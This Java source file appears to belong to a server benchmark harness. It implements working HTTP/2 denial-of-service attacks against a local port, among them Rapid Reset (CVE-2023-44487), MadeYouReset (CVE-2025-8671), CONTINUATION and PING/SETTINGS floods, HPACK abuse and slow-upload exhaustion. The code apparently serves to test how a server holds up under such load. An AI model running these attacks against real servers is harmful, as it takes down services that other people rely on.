package org.loommpm.bench.attack;

import java.io.IOException;
import java.util.function.BooleanSupplier;

/**
 * The HTTP/2 attacks of issue #23, each run on one connection until the server closes it or
 * {@code running} turns false. {@link #connect} opens the connection with the SETTINGS and
 * connection window the attack needs; {@link #run} then sends the frames.
 */
enum Attack {
    /** SETTINGS_INITIAL_WINDOW_SIZE=0, then as many GETs of a large file as the server allows. */
    ZERO_WINDOW("zero-window", "/big.bin"),
    /** CVE-2025-8671: HEADERS(END_STREAM) then WINDOW_UPDATE(stream, 0), which the server resets. */
    MADE_YOU_RESET("made-you-reset", "/slow"),
    /** WINDOW_UPDATE(0, +1) back to back. */
    WU_CONN("wu-conn", null),
    /** WINDOW_UPDATE(stream, +1) on a stream with a 0 window: one byte of DATA per update. */
    WU_STREAM("wu-stream", "/big.bin"),
    /** RST_STREAM on streams the server already finished. */
    RST_CLOSED("rst-closed", "/small.txt"),
    /** HEADERS blocks that begin with thousands of dynamic table size updates. */
    HPACK_SIZE("hpack-size", "/small.txt"),
    /** CVE-2023-44487: HEADERS(END_STREAM) then RST_STREAM(CANCEL) at once, back to back. */
    RAPID_RESET("rapid-reset", "/slow"),
    /** Empty SETTINGS frames back to back (each owes an ACK). */
    SETTINGS_FLOOD("settings-flood", null),
    /** PING frames back to back (each owes a PING ACK). */
    PING_FLOOD("ping-flood", null),
    /** A POST stream, then DATA frames of length 0 without END_STREAM, back to back. */
    EMPTY_DATA("empty-data", "/plaintext"),
    /** HEADERS without END_HEADERS, then CONTINUATION frames that never end the block. */
    CONTINUATION("continuation", "/small.txt"),
    /** 100 MB POSTs one after another, within the server's flow-control windows. */
    UPLOAD("upload", "/plaintext"),
    /**
     * {@link #MAX_STREAMS} POSTs open at once, each sent one body byte a second and never ended
     * (issue 50, item 2): a handler reading the body waits on each; a stream the server ends
     * (408 from RequestReadTimeout's body stage, or a reset) is closed and replaced.
     */
    SLOW_UPLOAD("slow-upload", "/plaintext"),
    /**
     * GETs whose header block is ~120 KiB of Huffman-coded values (192 KiB decoded: past the
     * 64 KiB header list limit, so each is answered 431), four in flight, one after another on
     * the connection the server keeps (issue 50, item 7).
     */
    BIG_HUFFMAN("big-huffman", "/small.txt");

    final String label;
    final String defaultPath;

    Attack(String label, String defaultPath) {
        this.label = label;
        this.defaultPath = defaultPath;
    }

    static Attack of(String label) {
        for (Attack a : values()) {
            if (a.label.equals(label)) {
                return a;
            }
        }
        throw new IllegalArgumentException("unknown attack " + label);
    }

    /** The server announces 100 concurrent streams by default; staying under it avoids REFUSED_STREAM. */
    static final int MAX_STREAMS = 100;
    /** Frames per socket write in the floods: one write of ~13 KB, so the syscalls do not dominate. */
    private static final int BATCH = 1000;

    /** Connects with the SETTINGS and connection window this attack needs. */
    H2Conn connect(int port, long t0) throws IOException {
        return switch (this) {
            case ZERO_WINDOW -> new H2Conn(port, t0, 65535, Frames.SETTINGS_INITIAL_WINDOW_SIZE, 0);
            case WU_CONN -> new H2Conn(port, t0, 65535);
            // Stream window 0, connection window at its maximum: each +1 lets one DATA byte out.
            case WU_STREAM -> new H2Conn(port, t0, Frames.MAX_WINDOW, Frames.SETTINGS_INITIAL_WINDOW_SIZE, 0);
            // Windows at their maximum, so the server is never held up by us not reading.
            default -> new H2Conn(port, t0, Frames.MAX_WINDOW, Frames.SETTINGS_INITIAL_WINDOW_SIZE, Frames.MAX_WINDOW);
        };
    }

    /** Runs the attack on {@code c} until the server closes it or {@code running} turns false. */
    void run(H2Conn c, int port, String path, int updates, BooleanSupplier running) throws IOException {
        byte[] get = path == null ? null : Frames.getBlock("127.0.0.1:" + port, path);
        Frames f = new Frames();
        switch (this) {
            case ZERO_WINDOW -> {
                while (running.getAsBoolean() && c.open()) {
                    c.awaitInFlightBelow(MAX_STREAMS); // replaces any stream the server gives up on
                    if (!running.getAsBoolean() || !c.open()) {
                        break;
                    }
                    f.clear();
                    f.headers(c.nextStreamId(), get, true);
                    c.streamsOpened++;
                    c.send(f, 1);
                }
            }
            case MADE_YOU_RESET -> {
                while (running.getAsBoolean() && c.open()) {
                    f.clear();
                    for (int i = 0; i < 50; i++) {
                        int id = c.nextStreamId();
                        f.headers(id, get, true);
                        f.windowUpdate(id, 0);
                    }
                    c.streamsOpened += 50;
                    c.send(f, 100);
                }
            }
            case WU_CONN -> {
                for (int i = 0; i < BATCH; i++) {
                    f.windowUpdate(0, 1);
                }
                while (running.getAsBoolean() && c.open()) {
                    c.send(f, BATCH);
                }
            }
            case WU_STREAM -> {
                while (running.getAsBoolean() && c.open()) {
                    int id = c.nextStreamId();
                    f.clear();
                    f.headers(id, get, true);
                    c.streamsOpened++;
                    c.send(f, 1);
                    f.clear();
                    for (int i = 0; i < BATCH; i++) {
                        f.windowUpdate(id, 1);
                    }
                    // Until the stream ends (10 MB takes ten million updates, or the server resets it).
                    while (running.getAsBoolean() && c.open() && c.streamsEnded.get() < c.streamsOpened) {
                        c.send(f, BATCH);
                    }
                }
            }
            case RST_CLOSED -> {
                int[] closed = new int[10];
                for (int i = 0; i < closed.length; i++) {
                    closed[i] = c.nextStreamId();
                    f.headers(closed[i], get, true);
                }
                c.streamsOpened += closed.length;
                c.send(f, closed.length);
                c.awaitInFlightBelow(1); // all answered: every id is now closed
                f.clear();
                for (int i = 0; i < BATCH; i++) {
                    f.rstStream(closed[i % closed.length], Frames.CANCEL);
                }
                while (running.getAsBoolean() && c.open()) {
                    c.send(f, BATCH);
                }
            }
            case RAPID_RESET -> {
                while (running.getAsBoolean() && c.open()) {
                    f.clear();
                    for (int i = 0; i < 50; i++) {
                        int id = c.nextStreamId();
                        f.headers(id, get, true);
                        f.rstStream(id, Frames.CANCEL);
                    }
                    c.streamsOpened += 50;
                    c.send(f, 100);
                }
            }
            case SETTINGS_FLOOD, PING_FLOOD -> {
                byte[] opaque = new byte[8];
                for (int i = 0; i < BATCH; i++) {
                    if (this == PING_FLOOD) {
                        f.ping(opaque);
                    } else {
                        f.settings();
                    }
                }
                while (running.getAsBoolean() && c.open()) {
                    c.send(f, BATCH);
                }
            }
            case EMPTY_DATA -> {
                int id = c.nextStreamId();
                f.headers(id, Frames.postBlock("127.0.0.1:" + port, path), false);
                c.streamsOpened++;
                c.send(f, 1);
                f.clear();
                for (int i = 0; i < BATCH; i++) {
                    f.data(id, 0, false);
                }
                while (running.getAsBoolean() && c.open()) {
                    c.send(f, BATCH);
                }
            }
            case CONTINUATION -> {
                int id = c.nextStreamId();
                f.headersOpen(id, get);
                c.streamsOpened++;
                c.send(f, 1);
                f.clear();
                // A literal field without indexing, new name, repeated: x-c: 64 bytes.
                byte[] piece = new byte[2 + 3 + 1 + 64];
                piece[0] = 0x00;
                piece[1] = 3;
                piece[2] = 'x';
                piece[3] = '-';
                piece[4] = 'c';
                piece[5] = 64;
                java.util.Arrays.fill(piece, 6, piece.length, (byte) 'v');
                for (int i = 0; i < BATCH; i++) {
                    f.continuation(id, piece, false);
                }
                while (running.getAsBoolean() && c.open()) {
                    c.send(f, BATCH);
                }
            }
            case BIG_HUFFMAN -> {
                byte[] block = bigHuffmanBlock(Frames.getBlock("127.0.0.1:" + port, path));
                int frames = (block.length + MAX_FRAME - 1) / MAX_FRAME;
                while (running.getAsBoolean() && c.open()) {
                    c.awaitInFlightBelow(4);
                    int id = c.nextStreamId();
                    f.clear();
                    int first = Math.min(MAX_FRAME, block.length);
                    f.header(first, Frames.HEADERS, Frames.END_STREAM, id);
                    f.bytes(java.util.Arrays.copyOfRange(block, 0, first));
                    for (int off = first; off < block.length; off += MAX_FRAME) {
                        int n = Math.min(MAX_FRAME, block.length - off);
                        f.continuation(id, java.util.Arrays.copyOfRange(block, off, off + n), off + n == block.length);
                    }
                    c.streamsOpened++;
                    c.send(f, frames);
                }
            }
            case UPLOAD -> {
                byte[] post = Frames.postBlock("127.0.0.1:" + port, path);
                while (running.getAsBoolean() && c.open()) {
                    c.awaitInFlightBelow(1);
                    int id = c.nextStreamId();
                    c.newUploadStream();
                    f.clear();
                    f.headers(id, post, false);
                    c.streamsOpened++;
                    c.send(f, 1);
                    long left = 100L << 20;
                    while (left > 0 && running.getAsBoolean() && c.open()) {
                        int n = c.takeCredit((int) Math.min(16384, left));
                        if (n == 0) {
                            break;
                        }
                        left -= n;
                        f.clear();
                        f.data(id, n, left == 0);
                        c.send(f, 1);
                    }
                }
            }
            case SLOW_UPLOAD -> slowUpload(c, Frames.postBlock("127.0.0.1:" + port, path), running);
            case HPACK_SIZE -> {
                byte[] block = Frames.tableSizeUpdates(updates, 4096, get);
                if (block.length > 16384) {
                    throw new IllegalArgumentException("--updates " + updates + " makes a " + block.length
                            + "-byte block, above the 16384-byte frame limit");
                }
                while (running.getAsBoolean() && c.open()) {
                    c.awaitInFlightBelow(MAX_STREAMS);
                    f.clear();
                    f.headers(c.nextStreamId(), block, true);
                    c.streamsOpened++;
                    c.send(f, 1);
                }
            }
        }
    }

    /**
     * Keeps {@link #MAX_STREAMS} body-less POSTs open and sends each one byte of body a second.
     * A stream the server answered (its END_STREAM) is ended with a last byte, one it reset is
     * dropped, and both are replaced by new ones in the next second's batch.
     */
    private static void slowUpload(H2Conn c, byte[] post, BooleanSupplier running) throws IOException {
        c.trackEnded();
        java.util.List<Integer> open = new java.util.ArrayList<>();
        Frames f = new Frames();
        long next = System.nanoTime();
        while (running.getAsBoolean() && c.open()) {
            f.clear();
            int frames = 0;
            for (java.util.Iterator<Integer> it = open.iterator(); it.hasNext(); ) {
                int id = it.next();
                Boolean answered = c.ended(id);
                if (answered != null) {
                    it.remove();
                    if (answered) {
                        f.data(id, 1, true); // the server answered before the body ended: end ours
                        frames++;
                    }
                }
            }
            while (open.size() < MAX_STREAMS) {
                int id = c.nextStreamId();
                f.headers(id, post, false);
                c.streamsOpened++;
                frames++;
                open.add(id);
            }
            for (int id : open) {
                f.data(id, 1, false);
                frames++;
            }
            c.send(f, frames);
            next += 1_000_000_000L;
            long wait;
            while ((wait = next - System.nanoTime()) > 0 && running.getAsBoolean() && c.open()) {
                java.util.concurrent.locks.LockSupport.parkNanos(Math.min(wait, 100_000_000L));
            }
        }
    }

    /** The largest frame payload a peer must accept (SETTINGS_MAX_FRAME_SIZE's initial value). */
    private static final int MAX_FRAME = 16_384;

    /**
     * {@code get} followed by 30 literal fields (without indexing, new names) of 4,000
     * Huffman-coded bytes each: all zero bits, which is 6,400 times the 5-bit code of {@code '0'}
     * with no padding (32,000 bits), valid HPACK that decodes to 192 KiB of values.
     */
    static byte[] bigHuffmanBlock(byte[] get) {
        java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
        b.writeBytes(get);
        for (int i = 0; i < 30; i++) {
            byte[] name = ("x-h" + i).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
            b.write(0x00);
            b.write(name.length);
            b.writeBytes(name);
            hpackInt(b, 0x80, 7, 4_000); // H: the value is Huffman-coded
            b.writeBytes(new byte[4_000]);
        }
        return b.toByteArray();
    }

    /** An HPACK integer (RFC 7541 §5.1) with {@code flags} in the first byte's high bits. */
    private static void hpackInt(java.io.ByteArrayOutputStream out, int flags, int prefixBits, int v) {
        int max = (1 << prefixBits) - 1;
        if (v < max) {
            out.write(flags | v);
            return;
        }
        out.write(flags | max);
        v -= max;
        while (v >= 128) {
            out.write((v & 0x7f) | 0x80);
            v >>>= 7;
        }
        out.write(v);
    }
}
